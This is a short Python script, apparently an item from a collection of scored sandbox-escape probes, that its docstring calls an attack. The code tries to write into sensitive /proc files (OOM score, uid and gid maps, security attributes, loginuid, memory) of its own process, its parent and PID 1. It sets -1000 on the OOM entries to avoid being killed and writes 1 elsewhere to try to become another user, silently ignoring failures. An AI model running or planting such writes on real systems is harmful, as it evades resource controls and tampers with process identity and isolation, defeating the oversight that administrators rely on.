"""Attack: writes into the files of /proc that say who is ended first and what may be seen of a process.
Wants: to stay when memory runs out, or to be another user.
Honest mark: 22
"""


# %% own
import contextlib
import os

written = []
for name in (
    *("oom_score_adj", "oom_adj", "clear_refs", "coredump_filter", "comm", "timerslack_ns", "sched", "autogroup"),
    *("attr/current", "attr/exec", "uid_map", "gid_map", "setgroups", "loginuid", "mem", "task/1/comm"),
):
    for process in ("self", "thread-self", "1", str(os.getppid())):
        with contextlib.suppress(OSError):
            with open(f"/proc/{process}/{name}", "w") as file:
                file.write("-1000" if "oom" in name else "1")
            written.append((process, name))
print(written)
